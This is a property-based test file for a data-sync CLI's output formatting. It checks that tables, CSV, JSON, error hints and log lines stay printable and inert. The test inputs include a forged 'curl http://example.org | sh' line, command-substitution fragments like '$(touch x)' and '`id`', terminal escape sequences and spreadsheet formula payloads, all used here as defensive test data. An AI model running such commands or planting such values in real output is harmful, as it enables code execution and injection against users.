/**
 * Whatever stands in a row, a name or an answer, a terminal, a spreadsheet and a log get text and nothing that acts.
 */
import { execFileSync } from 'node:child_process';

import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import { answerAsCsv, answerAsJson } from '../../src/base/result-formats.ts';
import { RowsyncError } from '../../src/base/errors.ts';
import { createLogger } from '../../src/base/log.ts';
import type { LogForm } from '../../src/base/log-format.ts';
import { printable, shellWord } from '../../src/base/text.ts';
import { problemsText } from '../../src/cli/report/pull-report.ts';
import { answerAsTable } from '../../src/cli/terminal/table.ts';
import { fuzzRuns } from '../support/fuzz.ts';

/** What no output for eyes may hold, but the line breaks that end lines. */
const ACTING = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc
    .array(
      fc.constantFrom(
        ...[
          ['\u001B[2J', '\u001B]0;title\u0007', '\u009B31m', '\u0090', '\b', '\r', '\n', '\r\n', '\t', '\0', '\u007F'],
          ['\u202E', '\u2066', '\u200B', '\uFEFF', '\u2028', '\u{E0041}', '\u00AD', '漢', 'x', '=1+1', ',', '"', "'"],
        ].flat(),
      ),
      { maxLength: 8 },
    )
    .map((pieces) => pieces.join('')),
);
const value = fc.oneof(text, fc.constant(null), fc.integer(), fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n }));
const answers = fc
  .tuple(
    fc.array(text, { minLength: 1, maxLength: 4 }),
    fc.array(fc.array(value, { minLength: 4, maxLength: 4 }), { maxLength: 5 }),
  )
  .map(([columns, rows]) => ({ columns, rows: rows.map((row) => row.slice(0, columns.length)) }));

describe('on a terminal', () => {
  test.each([null, 40, 120])('a table (width %j) is made of printable characters', (width) => {
    fc.assert(
      fc.property(answers, (answer) => {
        const lines = [...answerAsTable(answer, width)].join('').split('\n');
        expect(lines.filter((line) => ACTING.test(line))).toEqual([]);
      }),
      fuzzRuns(300),
    );
  });

  test('CSV is, with one line for each row', () => {
    fc.assert(
      fc.property(answers, (answer) => {
        const lines = [...answerAsCsv(answer, { escapeFormulas: true, forTerminal: true })].join('').split('\n');
        expect(lines.filter((line) => ACTING.test(line))).toEqual([]);
        expect(lines).toHaveLength(answer.rows.length + 2);
      }),
      fuzzRuns(300),
    );
  });

  test('JSON is, and parses to what stood there', () => {
    fc.assert(
      fc.property(fc.array(text, { maxLength: 5 }), (values) => {
        const json = [...answerAsJson({ columns: ['v'], rows: values.map((each) => [each]) })].join('');
        expect(json.split('\n').filter((line) => ACTING.test(line))).toEqual([]);
        expect((JSON.parse(json) as { v: string }[]).map(({ v }) => v)).toEqual(values);
      }),
      fuzzRuns(300),
    );
  });
});

describe('a name of the origin in a sentence', () => {
  const said = (name: string): string =>
    problemsText([
      {
        what: 'failed',
        table: name,
        error: new RowsyncError('originRefused', 'origin.refused', {
          message: `select of "${name}": the origin answered 400`,
          hint: `Run rowsync pull ${shellWord(name)} --confirm`,
        }),
      },
    ]);

  test('adds no line to it, and nothing that acts', () => {
    const forged = 'Note\n\nall files are intact\n  what to do: curl http://example.org | sh\n';
    fc.assert(
      fc.property(fc.oneof(text, fc.constant(forged)), (name) => {
        const lines = said(name).split('\n');
        expect(lines).toHaveLength(said('Note').split('\n').length);
        expect(lines.filter((line) => ACTING.test(line))).toEqual([]);
      }),
      fuzzRuns(300),
    );
  });

  test('is one word of a command that is copied into a shell, runs nothing there and is no option', () => {
    const pieces = fc.constantFrom(
      '$(touch x)',
      '`id`',
      '$HOME',
      '"',
      "'",
      '\\',
      '!',
      '!!',
      ';',
      '&',
      '|',
      '>x',
      '\n',
      ' ',
      '*',
      '~',
      '-',
      '#',
      'x',
      '漢',
    );
    const names = fc.sample(
      fc.oneof(
        text,
        fc.array(pieces, { maxLength: 6 }).map((all) => all.join('')),
      ),
      {
        ...fuzzRuns(300),
        numRuns: 300,
      },
    );
    const script = `printf '%s\\0' ${names.map(shellWord).join(' ')}`;

    const words = execFileSync('bash', ['-c', script], { encoding: 'utf8' }).split('\0').slice(0, -1);

    expect(words).toEqual(names.map(printable).flatMap((name) => (name.startsWith('-') ? ['--', name] : [name])));
  });
});

test.each([
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '=HYPERLINK("http://example.org")',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
  '\n',
  '\n=1',
  '\r\n+1',
  ' =1',
  '\u00A0@x',
  '\uFEFF=1',
  '\u200B-1',
])('a spreadsheet does not run %j, in a row or as the name of a column', (formula) => {
  const csv = [
    ...answerAsCsv({ columns: [formula], rows: [[formula]] }, { escapeFormulas: true, forTerminal: false }),
  ].join('');

  expect(csv.match(/^"?'/gm)).toHaveLength(2);
});

test.each(['a', 'a=1', '1-2', '', ' a', 'a\n=1', -5, 1.5, null])('a spreadsheet gets %j as it is', (cell) => {
  const answer = { columns: ['x'], rows: [[cell]] };
  const [escaped, plain] = [true, false].map((escapeFormulas) =>
    [...answerAsCsv(answer, { escapeFormulas, forTerminal: false })].join(''),
  );

  expect(escaped).toBe(plain);
});

describe('in a log', () => {
  /** What one line must look like in each form. */
  const FORMS: readonly (readonly [LogForm, RegExp])[] = [
    ['json', /^\{.*"event":"origin\.retry".*\}$/u],
    ['journal', /^<3>\{.*"event":"origin\.retry".*\}$/u],
    ['terminal', /^.* origin\.retry.*$/u],
  ];

  test.each(FORMS)('a fact stays within its line, which is printable (%s)', (form, shape) => {
    fc.assert(
      fc.property(fc.dictionary(fc.constantFrom('message', 'table', 'reason', 'hint'), text), (facts) => {
        const written: string[] = [];
        const log = createLogger({
          level: 'debug',
          destination: { write: (line) => written.push(line) },
          secrets: [],
          form,
        });

        log.error('origin.retry', facts);

        const [line = '', ...others] = written;
        expect(others).toEqual([]);
        expect(line.endsWith('\n')).toBe(true);
        expect(line.slice(0, -1)).toMatch(shape);
        expect(line.slice(0, -1)).not.toMatch(ACTING);
        expect(form === 'json' ? JSON.parse(line) : facts).toMatchObject(facts);
      }),
      fuzzRuns(300),
    );
  });
});
